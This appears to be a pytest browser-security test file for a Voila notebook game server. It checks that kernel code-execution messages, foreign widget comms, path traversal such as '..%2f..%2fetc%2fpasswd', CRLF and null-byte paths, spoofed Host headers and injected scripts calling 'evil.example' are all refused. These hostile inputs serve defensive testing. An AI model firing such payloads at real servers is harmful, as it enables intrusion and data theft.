"""A hostile visitor: a page's connection to its kernel runs no foreign code, and the server hands out nothing but its pages."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from contextlib import closing
from http.client import HTTPConnection
from pathlib import Path
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import pytest

from tests.browser.conftest import Watched
from tests.visiting import find_server
from tests.waiting import wait_until
from village_widgets.host.files import keep_shared
from village_widgets.host.headers import build_policy

READY = ".vc-settings"
ASK = """async ([kernel, asked]) => {
    const address = new URL(`api/kernels/${kernel}/channels?session_id=visitor`, location.origin).href.replace(/^http/, "ws");
    const socket = new WebSocket(address);
    await new Promise((open, fail) => { socket.onopen = open; socket.onerror = fail; });
    const heard = [], told = new EventTarget();
    socket.onmessage = ({ data }) => {
        if (typeof data !== "string") return;
        const { msg_type: type, parent_header: parent, content } = JSON.parse(data);
        if (parent?.msg_id?.startsWith("visitor-")) heard.push(type);
        told.dispatchEvent(new Event(`${parent?.msg_id} ${content.execution_state ?? type}`));
    };
    const say = (id, [channel, type, content]) => {
        const date = new Date().toISOString();
        const header = { msg_id: id, username: "", session: "visitor", date, msg_type: type, version: "5.3" };
        socket.send(JSON.stringify({ channel, header, parent_header: {}, metadata: {}, content, buffers: [] }));
    };
    asked.forEach((one, at) => say(`visitor-${at}`, one));
    for (const channel of ["shell", "control"]) { // whatever was asked on a channel before this has been dealt with after it
        const heard = (what) => new Promise((next) => told.addEventListener(`after-${channel} ${what}`, next));
        const dealt = [heard("kernel_info_reply"), heard("idle")];
        say(`after-${channel}`, [channel, "kernel_info_request", {}]);
        await Promise.all(dealt);
    }
    socket.close();
    return heard;
}"""
CHANNELS = ("shell", "control", "stdin", "iopub", "shell\x00")
REQUESTS = {
    "execute_request": "code",
    "EXECUTE_REQUEST": "code",
    "inspect_request": "code",
    "complete_request": "code",
    "is_complete_request": "code",
    "input_reply": "value",
    "debug_request": "arguments",
    "create_subshell_request": "code",
}
"""Messages that could make a kernel run, complete or inspect code, and the place of the code in each."""
WIDGET = {"_model_module": "@jupyter-widgets/controls", "_model_name": "TextModel"}


def find_kernel(watched: Watched) -> str:
    """Return the id of the kernel behind a page, as the page knows it."""
    return json.loads(watched.page.locator("#jupyter-config-data").text_content())["kernelId"]


def write_code(target: Path) -> str:
    """Return a line of Python that, if it is run, writes the file ``target``."""
    return f"open({str(target)!r}, 'w').write('run')"


@pytest.fixture
def opened(voila: str, visit: Callable[..., Watched]) -> Watched:
    """Return the play page once its game can begin and its process is there: the form comes before that."""
    watched = visit(f"{voila}/voila/render/play.ipynb")
    watched.page.wait_for_selector(READY, timeout=60_000)
    watched.page.wait_for_function("() => document.getElementById('jupyter-config-data').textContent.includes('kernelId')")
    return watched


def test_the_connection_answers_at_all(opened: Watched) -> None:
    """An allowed message is answered over this connection, so that silence in the other tests means a refusal."""
    heard = opened.page.evaluate(ASK, [find_kernel(opened), [["shell", "kernel_info_request", {}]]])
    assert "kernel_info_reply" in heard


def test_no_request_runs_code(opened: Watched, tmp_path: Path) -> None:
    """No request to run, inspect or complete code is answered on any channel, and none has an effect."""
    target = tmp_path / "run"
    rest = {"cursor_pos": 4, "silent": False, "store_history": False, "allow_stdin": False}
    asked = [[channel, kind, {field: write_code(target), **rest}] for channel in CHANNELS for kind, field in REQUESTS.items()]
    heard = opened.page.evaluate(ASK, [find_kernel(opened), asked])
    assert not any(answer.endswith(("_reply", "_result")) or answer in ("stream", "error") for answer in heard), heard
    assert not target.exists()


def test_a_game_begins_after_foreign_channels_are_opened(opened: Watched) -> None:
    """Channels to widgets that name functions and modules can be opened, and a game begins nevertheless."""
    opening = [
        {"target_name": "builtins.eval", "target_module": "os", "data": {"state": {"value": "1"}}},
        {"target_name": "jupyter.widget", "data": {"state": {**WIDGET, "value": "__import__('os')"}, "buffer_paths": []}},
        {"target_name": "jupyter.widget", "data": {"state": {"_model_module": "os", "_model_name": "system"}}},
        {"target_name": "jupyter.widget", "target_module": "antigravity", "data": "no state at all"},
    ]
    asked = [["shell", "comm_open", {"comm_id": f"visitor-{at}", **content}] for at, content in enumerate(opening)]
    opened.page.evaluate(ASK, [find_kernel(opened), asked])
    opened.page.locator(".vc-settings .vc-main").click()
    opened.page.wait_for_selector(".vc-table[data-version]:not([hidden])", timeout=30_000)
    assert opened.page.locator(".vc-open").count() > 0
    opened.errors.clear()


OLDER = """([kernel]) => new Promise((open, fail) => {
    const address = new URL(`api/kernels/${kernel}/channels?session_id=older`, location.origin).href.replace(/^http/, "ws");
    window.older = new WebSocket(address);
    window.older.binaryType = "arraybuffer";
    window.olderHeard = 0;
    window.older.onmessage = (event) => { window.olderHeard += typeof event.data !== "string"; };
    window.older.onopen = open;
    window.older.onerror = fail;
})"""


def test_the_older_protocol_is_answered(opened: Watched, voila: str) -> None:
    """A browser that falls back to the older protocol gets binary messages, and the server answers other requests meanwhile."""
    opened.page.evaluate(OLDER, [find_kernel(opened)])
    opened.page.locator(".vc-settings .vc-main").click()
    opened.page.wait_for_selector(".vc-table[data-version]:not([hidden])", timeout=30_000)
    opened.page.wait_for_function("() => window.olderHeard > 0", timeout=30_000)
    with urlopen(f"{voila}/voila/render/00_welcome.ipynb", timeout=30) as answer:
        assert answer.status == 200


@pytest.mark.parametrize(
    "path", ["api/kernels", "api/sessions", "api/contents", "api/terminals", "api/contents/00_welcome.ipynb", "api/kernelspecs"]
)
def test_the_server_lists_and_starts_nothing(voila: str, path: str) -> None:
    """Requests to list or start kernels, sessions and terminals, or to list or write files, are refused."""
    for method, body in (("GET", None), ("POST", b"{}"), ("PUT", b"{}")):
        with pytest.raises(HTTPError) as refused:
            urlopen(Request(f"{voila}/{path}", data=body, method=method), timeout=20)
        assert refused.value.code in (403, 404, 405)


@pytest.mark.parametrize("path", ["companion.ipynb", "..%2f..%2fetc%2fpasswd", "village.db", "../pyproject.toml", "play.py"])
def test_no_file_is_handed_out(voila: str, path: str) -> None:
    """No notebook source, no store and no file outside the folder of pages is served."""
    with pytest.raises(HTTPError) as refused:
        urlopen(f"{voila}/voila/files/{path}", timeout=20)
    assert refused.value.code in (403, 404)


@pytest.mark.parametrize("server", ["voila", "lab"])
def test_a_name_that_was_led_here_opens_nothing(server: str, request: pytest.FixtureRequest) -> None:
    """A request under a foreign host name gets no page, no script and no connection, from Voila and from JupyterLab."""
    address = str(request.getfixturevalue(server))
    paths = ("/voila/render/play.ipynb", "/lab", "/api/kernels", "/voila/static/none.js", "/api/kernels/0/channels")
    for path in paths:
        with pytest.raises(HTTPError) as refused:
            urlopen(Request(address + path, headers={"Host": "evil.example"}), timeout=20)
        assert refused.value.code == 403 and b"VILLAGE_HOSTS=evil.example" in refused.value.read()


@pytest.mark.parametrize(
    "path", ["/logout", "/login", "/%00", "/voila/render/a%00b.ipynb", "/voila/files/%00", "/voila/static/%00.js",
             "/voila/templates/village/index.html.j2", "/voila/templates/village/conf.json",
             "/voila/templates/village/static/../pages.j2", "/voila/templates/village/static/%2e%2e/pages.j2"],
)  # fmt: skip
def test_what_is_no_page_is_answered_with_ours(voila: str, path: str) -> None:
    """Login pages, sources of pages and impossible file names get our page for wrong addresses."""
    with closing(HTTPConnection(voila.removeprefix("http://"), timeout=20)) as connection:
        connection.request("GET", path)
        answer = connection.getresponse()
        assert answer.status == 404 and "There is no such page" in answer.read().decode()


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/voila/render/none"), ("GET", "/voila/render/a%0d%0ab"), ("GET", "/voila/render/%ff"),
        ("GET", "/voila/files/none"), ("GET", "/voila/static/x%0d%0a.js"), ("GET", "/voila/themes/none/index.css"),
        ("GET", "/voila/labextensions/none/static/x.js"), ("POST", "/voila/render/play.ipynb"), ("TRACE", "/"),
    ],
)  # fmt: skip
def test_a_wrong_request_gets_our_page_and_one_line_in_the_log(voila: str, method: str, path: str) -> None:
    """Whichever handler a wrong address or method reaches, the answer is our page, and the log has at most a line a request."""
    requests = 1
    with Path(f"/proc/{find_server(voila).pid}/fd/1").open("rb") as log:
        log.seek(0, os.SEEK_END)
        with closing(HTTPConnection(voila.removeprefix("http://"), timeout=20)) as connection:
            connection.request(method, path)
            answer = connection.getresponse()
            if answer.status == 302:
                answer.read()
                requests += 1
                connection.request("GET", answer.headers["Location"])
                answer = connection.getresponse()
            assert 400 <= answer.status < 500 and "There is no such page" in answer.read().decode()
        assert log.read().count(b"\n") <= requests


def test_a_page_is_found_without_its_suffix(voila: str) -> None:
    """An address that lacks only the suffix of its notebook leads to the page, and a request for a page's head is answered."""
    with urlopen(f"{voila}/voila/render/play", timeout=60) as answer:
        assert answer.url.endswith("/voila/render/play.ipynb")
    with urlopen(Request(f"{voila}/voila/render/play.ipynb", method="HEAD"), timeout=60) as answer:
        assert answer.status == 200 and not answer.read()


@pytest.mark.parametrize("server", ["voila", "lab"])
def test_answers_have_security_headers(server: str, request: pytest.FixtureRequest) -> None:
    """A page, our style and script, errors and JupyterLab's page forbid guessing their types and tell other sites no address.

    All have a policy, which is ours except for JupyterLab's page, and no other site may frame them. Their cookies are
    ``SameSite=Lax``.
    """
    address = str(request.getfixturevalue(server))
    look, script = "voila/templates/village/static/page.css", keep_shared("page.js")
    for path in ("voila/tree", "voila/render/00_welcome.ipynb", look, script, "voila/none", "lab" if server == "lab" else "none"):
        try:
            headers = urlopen(f"{address}/{path}", timeout=60).headers
        except HTTPError as error:
            headers = error.headers
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"] == "same-origin", path
        assert headers["Content-Security-Policy"].startswith(build_policy()) is (path != "lab"), "JupyterLab has its own policy"
        assert "frame-ancestors 'self'" in headers["Content-Security-Policy"]
        assert all("samesite=lax" in cookie.lower() for cookie in headers.get_all("Set-Cookie", []))


INJECT = """() => {
    const script = document.createElement("script");
    script.textContent = "window.foreign = 'script'";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", `<img src="none:" onerror="window.foreign = 'handler'">
        <a class="led" href="javascript:window.foreign = 'address'">x</a>`);
    document.querySelector(".led").click();
    const outside = document.createElement("script");
    outside.src = "https://evil.example/script.js";
    document.body.append(outside);
    return fetch("https://evil.example/").then(() => "reached", () => "unreached");
}"""


def test_a_script_that_got_into_a_page_does_not_run(opened: Watched) -> None:
    """No script in a page's content runs, as element, handler, address or file, and nothing reaches another host."""
    assert opened.page.evaluate(INJECT) == "unreached"

    def count_refusals() -> int:
        assert opened.page.evaluate("() => window.foreign === undefined")
        return len([error for error in opened.errors if "Content Security Policy" in error])

    wait_until(lambda: count_refusals() >= 5, "that all five are refused")
    opened.errors.clear()
    opened.outside.clear()  # forgets the requests that the policy refused
